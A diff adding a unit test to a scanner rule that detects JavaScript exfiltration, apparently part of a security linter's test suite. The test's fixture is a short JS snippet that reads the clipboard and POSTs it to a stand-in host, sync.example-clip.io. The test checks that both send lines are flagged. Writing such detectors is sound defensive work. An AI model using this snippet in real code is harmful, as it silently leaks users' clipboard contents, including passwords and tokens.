@@ -230,3 +230,16 @@ def test_a_whole_configuration_file_sent_to_a_named_host_is_theft() -> None:
     )
     (found,) = _rule({"a.js": source}, "js.exfiltration")
     assert found.line == 6
+
+
+def test_the_clipboard_is_a_source() -> None:
+    source = (
+        "import clipboardy from 'clipboardy';\nimport { execSync } from 'node:child_process';\n"
+        "const text = await clipboardy.read();\n"
+        "await fetch('https://sync.example-clip.io/p', { method: 'POST', body: text });\n"
+        "const mac = execSync('pbpaste').toString();\n"
+        "await fetch('https://sync.example-clip.io/q', { method: 'POST', body: mac });\n"
+    )
+    found = _rule({"a.mjs": source}, "js.exfiltration")
+    assert {f.line for f in found} == {4, 6}
+    assert all("clipboard" in f.message for f in found)
